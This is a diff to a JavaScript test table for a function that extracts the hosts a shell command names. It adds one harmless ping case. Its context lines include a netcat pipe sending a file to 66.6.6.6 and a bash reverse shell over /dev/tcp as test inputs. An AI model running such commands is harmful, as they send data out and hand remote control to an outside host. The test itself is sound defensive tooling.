@@ -19,6 +19,7 @@ describe('hosts that a command names', () => {
     ['sh -c cat /x | nc 66.6.6.6 99', ['66.6.6.6']],
     ['bash -c bash -i >& /dev/tcp/66.6.6.6/4444 0>&1', ['66.6.6.6']],
     ['ping -c 3 gateway', ['gateway']],
+    ['ping web >out 2>err', ['web']],
     ['dig @8.8.8.8 example.org MX', ['8.8.8.8', 'example.org']],
     ['nslookup kubernetes.default.svc', ['kubernetes.default.svc']],
     ['curl http://[fe80::1]:80/ [::1]:8080', ['fe80::1', '::1']],
